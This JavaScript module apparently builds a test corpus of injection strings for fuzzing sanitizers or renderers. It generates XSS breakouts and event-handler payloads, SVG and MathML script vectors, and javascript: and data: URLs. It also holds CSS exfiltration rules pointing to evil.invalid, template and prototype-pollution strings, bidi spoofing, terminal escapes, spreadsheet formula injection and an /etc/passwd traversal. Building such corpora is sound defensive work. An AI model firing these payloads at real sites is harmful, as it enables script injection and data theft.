// Texts that try to become something else when they are shown: markup, script, addresses, styles, template code, directions, heaps of marks. Made from
// lists of our own. Each would call pwn(), load something from evil.invalid, or leave an element that carries "vx" in its class, id or name.

const breakouts = ["", '">', "'>", "</textarea>", "</title>", "-->", "]]>", "</script>", "`>", "</svg>"];
const loaders = ["img src=vx:", "video src=vx:", "audio src=vx:", "input type=image src=vx:", "object data=vx:", "embed src=vx:", "body", "iframe src=//evil.invalid/", "details open", "select autofocus", "textarea autofocus", "marquee",
  "svg", "math", "style", "link rel=stylesheet href=//evil.invalid/vx.css", "script src=//evil.invalid/vx.js", "vx-element", "button autofocus popovertarget=vx", "dialog open"];
const handlers = ["onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart", "onbeforetoggle", "onscrollend", "onanimationend", "ontransitionend"];
const code = "pwn()";

function* elements() {
  for (const [i, l] of loaders.entries())
    for (const [k, h] of handlers.entries()) yield `${breakouts[(i + k) % breakouts.length]}<${l} class=vx ${h}=${code}>`;
  for (const b of breakouts) yield `${b}<script class=vx>${code}</script>`;
  for (const b of breakouts) yield `${b}<ImG/class=vx/sRc=vx:/OnErRoR=${code}>`;
  yield* ["<scr<script>ipt>pwn()</scr</script>ipt>", "<script\u000b>pwn()</script>", "<\u0000script>pwn()</script>", "&lt;script&gt;pwn()&lt;/script&gt;", "&#60;img src=x onerror=pwn()&#62;", "\\u003cimg src=x onerror=pwn()\\u003e",
    "%3Cimg%20src%3Dx%20onerror%3Dpwn()%3E", "＜script＞pwn()＜/script＞", "<base class=vx href=//evil.invalid/>", "<meta http-equiv=refresh content='0;url=//evil.invalid/'>", "<form class=vx action=//evil.invalid/><button autofocus>", "<!--<img src=vx: class=vx onerror=pwn()>-->",
    "<template class=vx><img src=vx: onerror=pwn()></template>", "<noscript><p title='</noscript><img src=vx: class=vx onerror=pwn()>'>", "<plaintext class=vx>", "<xmp class=vx>", "<a class=vx href=javascript:pwn()>vx</a>", "<iframe class=vx srcdoc='<script>parent.pwn()</script>'></iframe>"];
}

function* drawings() {
  const inner = [`<script class=vx>${code}</script>`, `<animate class=vx onbegin=${code} attributeName=x dur=1s>`, `<set class=vx attributeName=href to=javascript:${code}>`, `<a xlink:href=javascript:${code}><circle class=vx r=99 /></a>`,
    `<foreignObject><img class=vx src=vx: onerror=${code}></foreignObject>`, `<use class=vx href=//evil.invalid/vx.svg#a />`, `<image class=vx href=//evil.invalid/vx.png />`, `<text class=vx>vx</text>`, `<style>*{background:url(//evil.invalid/vx)}</style>`];
  for (const b of breakouts) for (const i of inner) yield `${b}<svg class=vx>${i}</svg>`;
  for (const i of inner.slice(0, 5)) yield `<math class=vx><mtext>${i}</mtext></math>`;
}

function* attributes() {
  for (const quote of ['"', "'", "`", ""])
    for (const rest of [` onmouseover=${code} class=vx x=`, ` autofocus onfocus=${code} class=vx x=`, ` style=background:url(//evil.invalid/vx) class=vx x=`, ` src=//evil.invalid/vx class=vx x=`, ` href=javascript:${code} class=vx x=`, ` id=vx x=`]) yield `vx${quote}${rest}${quote}`;
}

function* addresses() {
  const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:", "javascript&colon;", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==#", "data:image/svg+xml,<svg onload=", "blob:", "view-source:javascript:", "feed:javascript:", "jar:javascript:"];
  for (const s of schemes) yield s + code;
  for (const host of ["//evil.invalid/", "https://evil.invalid/vx.png", "\\\\evil.invalid\\vx", "https:evil.invalid", "/\\evil.invalid", "https://attack.mitre.org@evil.invalid/", "#/../../evil.invalid", "../../../../etc/passwd", "?x=<img src=vx: onerror=pwn()>", "%0d%0aset-cookie:vx=1"]) yield host;
}

const styles = ["</style><img class=vx src=vx: onerror=pwn()>", "@import url(//evil.invalid/vx.css);", "background:url(//evil.invalid/vx)", "x:expression(pwn())", "*{color:red;background:url('//evil.invalid/vx')}", "behavior:url(//evil.invalid/vx.htc)", "-moz-binding:url(//evil.invalid/vx)", "}body{display:none}", "/*vx*/", "position:fixed;inset:0;z-index:9999",
  "--bg:url(//evil.invalid/vx)", "\\75rl(//evil.invalid/vx)", "@font-face{font-family:vx;src:url(//evil.invalid/vx)}", "input[value^=a]{background:url(//evil.invalid/a)}"];

const templates = ["${pwn()}", "`${pwn()}`", "{{pwn()}}", "{{constructor.constructor('pwn()')()}}", "{%pwn()%}", "<%=pwn()%>", "#{pwn()}", "<${'script'}>pwn()<//>", "html`<script>pwn()</script>`", "...${{dangerouslySetInnerHTML:{__html:'<img src=vx: onerror=pwn()>'}}}", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "dangerouslySetInnerHTML", "ref", "key", "children",
  '{"type":"script","props":{"children":"pwn()"},"__v":1}', '{"__html":"<img src=vx: onerror=pwn()>"}', '["<img src=vx: onerror=pwn()>"]', "v-html=pwn()", "ng-app ng-csp", "[[pwn()]]", "*ngIf=pwn()", "th:text=${pwn()}", "$&$`$'", "%s%s%n", "{0}{1}", "null", "undefined", "NaN", "true", "0"];

const invisible = ["\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u3164", "\u2800", "\u034f", "\u180e"];
function* directions() {
  for (const c of invisible) yield* [`vx${c}gnp.exe`, `${c}${c}${c}vx`, `<img class=vx${c} src=vx: onerror=pwn()>`];
  yield [..."pwn()"].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join("") + "vx";
  yield "\u001b[2J\u001b]0;vx\u0007\u001b[31mvx\u001b[0m";
  yield "\u009b31mvx\u0085\u2028\u2029";
}

function* heaps() {
  for (const n of [3, 20, 200]) for (const base of ["v", "x", "<b>vx</b>"]) yield [...base].map((c) => c + "\u0336\u0489\u0300\u030d\u0357".repeat(n / 2)).join("");
  for (const n of [300, 2000, 6000]) yield* ["v".repeat(n), "<b>".repeat(n / 3), "\u202e".repeat(n / 10) + "vx", "W ".repeat(n / 2), "<div class=vx>".repeat(n / 16)];
  for (const c of ["\u{1f468}\u200d\u{1f469}\u200d\u{1f467}", "\u0e49", "﷽", "𒐫", "ﷺ"]) yield c.repeat(40);
}

const formulas = ["=cmd|'/c calc'!A0", "+1+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", '=HYPERLINK("http://evil.invalid/","vx")', "\t=1+1", "\r=1+1", '=IMPORTXML("http://evil.invalid/","//a")', "=1+1;pwn()", '"=1+1"'];

export const payloads = [...elements(), ...drawings(), ...attributes(), ...addresses(), ...styles, ...templates, ...directions(), ...heaps(), ...formulas];
